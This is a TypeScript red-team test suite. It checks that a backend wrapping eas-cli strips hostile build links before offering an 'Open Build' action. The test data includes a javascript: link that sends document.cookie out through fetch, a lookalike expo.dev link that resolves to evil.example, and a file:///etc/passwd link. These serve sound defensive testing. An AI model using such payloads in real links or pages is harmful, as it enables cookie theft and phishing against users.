// Red team: eas-cli (possibly the workspace's own node_modules/.bin/eas) prints a hostile build link.
// The backend must not pass it on: the run a person is offered to "Open Build" carries no link.
import * as assert from 'node:assert/strict';
import type { RunView } from '../../server/protocol';
import { easApp, openEasBackend } from '../support/easRuns';
import { expoTemplate } from '../support/expo';
import { shutdown, type Spawned } from '../support/server';

const live: Spawned[] = [];
const terminal = (r: RunView) => ['succeeded', 'failed', 'canceled'].includes(r.state);

async function finishedBuildWithLink(url: string): Promise<RunView> {
  const { app, state } = easApp();
  const b = await openEasBackend({ app, state, env: { FAKE_EAS_BUILD_URL: url } }, live);
  const run = await b.start({ kind: 'build', platform: 'android' });
  const done = await b.until(run.id, terminal);
  assert.equal(done.state, 'succeeded', done.error ?? '');
  for (const r of b.runs.get(run.id)!) assert.ok(!r.build?.url, `no change of the run carried the link: ${JSON.stringify(r.build)}`);
  return done;
}

describe('red team: a hostile build link from eas-cli', function () {
  this.timeout(120_000);
  before(() => { expoTemplate(); });
  afterEach(async () => { for (const s of live.splice(0)) await shutdown(s); });

  it('a javascript: link never leaves the backend', async () => {
    const done = await finishedBuildWithLink('javascript:fetch("http://127.0.0.1:9/"+document.cookie)');
    assert.equal(done.build!.url, null);
  });

  it('a link to another host dressed as expo.dev (user info) never leaves the backend', async () => {
    const done = await finishedBuildWithLink('https://expo.dev@evil.example/artifacts/eas/x.aab');
    assert.equal(done.build!.url, null);
  });

  it('a file: link never leaves the backend', async () => {
    const done = await finishedBuildWithLink('file:///etc/passwd');
    assert.equal(done.build!.url, null);
  });
});
